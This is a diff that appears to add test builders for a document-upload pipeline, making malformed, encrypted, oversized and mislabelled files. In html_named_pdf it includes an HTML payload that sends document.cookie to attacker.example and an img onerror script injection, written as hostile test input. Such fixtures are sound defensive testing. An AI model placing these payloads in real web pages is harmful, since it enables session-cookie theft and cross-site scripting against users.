@@ -1,0 +1,119 @@
+"""Builders for the bad-input catalogue: files a careless or hostile uploader might send.
+
+Each builder returns bytes (or writes a file, for the big ones). PDFs are built with PyMuPDF
+so the suite needs nothing from outside the repository.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pymupdf
+
+from tests.documents import pdf_builders
+
+LETTER = pdf_builders.LETTER
+
+# A few sentences of ordinary prose, varied enough that chunks are not all identical.
+SENTENCES = [
+    "The archive keeps every report that the survey team filed during the spring season.",
+    "Each report lists the site, the date, the weather and the instruments that were used.",
+    "Readings taken in heavy rain were marked as doubtful and checked again the next morning.",
+    "The team leader signed every page before it was copied into the central register.",
+    "Missing pages were noted in the margin together with the reason they could not be found.",
+    "Later audits compared the register with the original notebooks, line by line.",
+]
+
+
+def prose(paragraph: int, sentences: int = 4) -> str:
+    """A paragraph of numbered sentences; the number keeps paragraphs distinguishable."""
+    picked = [SENTENCES[(paragraph + i) % len(SENTENCES)] for i in range(sentences)]
+    return f"Paragraph {paragraph}. " + " ".join(picked)
+
+
+def text_named_pdf() -> bytes:
+    return b"These are the minutes of the meeting.\nNothing in this file is a PDF.\n" * 40
+
+
+def html_named_pdf() -> bytes:
+    return (
+        b"<!DOCTYPE html><html><head><title>Invoice</title>"
+        b"<script>document.location='https://attacker.example/?c='+document.cookie</script>"
+        b"</head><body><p>Open me</p><img src=x onerror=alert(1)></body></html>\n"
+    )
+
+
+def small_pdf(pages: int = 3) -> bytes:
+    """A well-formed text PDF (running headers on every page)."""
+    return pdf_builders.running_headers_doc(pages=pages)
+
+
+def truncated_pdf() -> bytes:
+    """Cut in half, with the page tree in compressed object streams: nothing left to repair."""
+    data = pymupdf.open(stream=small_pdf(6), filetype="pdf").tobytes(garbage=3, deflate=True, use_objstms=1)
+    return data[: len(data) // 2]
+
+
+def broken_xref_pdf() -> bytes:
+    """Every xref offset wrong; MuPDF repairs it by scanning the file."""
+    return pdf_builders.broken_xref_doc()
+
+
+def encrypted_pdf() -> bytes:
+    return pdf_builders.encrypted_doc(user_password="password")
+
+
+def image_only_pdf() -> bytes:
+    return pdf_builders.image_only_doc()
+
+
+def write_many_pages_pdf(path: Path, pages: int = 1000, paragraphs: int = 3) -> Path:
+    """A long text PDF, `paragraphs` short paragraphs a page, written straight to `path`."""
+    doc = pymupdf.open()
+    for number in range(pages):
+        page = doc.new_page(width=LETTER[0], height=LETTER[1])
+        box = pymupdf.Rect(72, 72, LETTER[0] - 72, LETTER[1] - 72)
+        body = "\n\n".join(prose(number * paragraphs + i) for i in range(paragraphs))
+        page.insert_textbox(box, f"Page {number + 1} of the long report\n\n{body}", fontsize=10, fontname="helv")
+    doc.save(path, garbage=1, deflate=True)
+    doc.close()
+    return path
+
+
+def huge_paragraph_text(megabytes: float = 2.5) -> bytes:
+    """One paragraph (no blank line anywhere) of several megabytes of sentences."""
+    target = int(megabytes * 1_048_576)
+    parts, size, n = [], 0, 0
+    while size < target:
+        sentence = f"Sentence {n} says: {SENTENCES[n % len(SENTENCES)]} "
+        parts.append(sentence)
+        size += len(sentence)
+        n += 1
+    return "".join(parts).strip().encode()
+
+
+def tiny_text_pdf(lines: int = 700, size: float = 1.0) -> bytes:
+    """One page packed with 1-point text: hundreds of kilobytes of characters on a single page."""
+    doc = pymupdf.open()
+    page = doc.new_page(width=LETTER[0], height=LETTER[1])
+    words = " ".join(SENTENCES)
+    for row in range(lines):
+        text = f"Row {row}: {words} {words}"
+        page.insert_text(pymupdf.Point(10, 10 + row * size * 1.1), text, fontsize=size, fontname="helv")
+    data = doc.tobytes(garbage=1, deflate=True)
+    doc.close()
+    return data
+
+
+CP1252_TEXT = (
+    "Café menu for the naïve visitor: crème brûlée, façade tours and a “special” offer at 5 €.\n"
+    "Señor Müller’s smørrebrød costs £3 – a bargain.\n"
+)
+
+
+def cp1252_text() -> bytes:
+    return (CP1252_TEXT * 20).encode("cp1252")
+
+
+def markdown_without_headings() -> bytes:
+    return ("\n\n".join(prose(i) for i in range(12)) + "\n\n- a list item\n- another item\n").encode()
